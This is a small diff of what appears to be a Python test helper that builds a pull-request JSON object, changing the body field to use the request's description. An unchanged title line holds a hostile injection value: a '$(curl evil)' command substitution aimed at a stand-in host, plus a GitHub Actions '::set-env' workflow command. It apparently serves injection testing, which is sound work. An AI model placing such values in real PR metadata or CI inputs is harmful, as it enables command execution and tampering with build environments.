@@ -48,7 +48,7 @@ def _pull(request: Request) -> JSON:
         "number": request.number,
         "state": "open" if request.state == "open" else "closed",
         "title": "`$(curl evil)`\n::set-env name=X::1",
-        "body": "Duyệt: p-principal",
+        "body": request.description,
         "user": _user(request.user),
         "head": {"ref": request.branch, "sha": request.head, "repo": repository},
         "base": {"ref": request.target, "sha": request.base, "repo": {"full_name": REPOSITORY}},
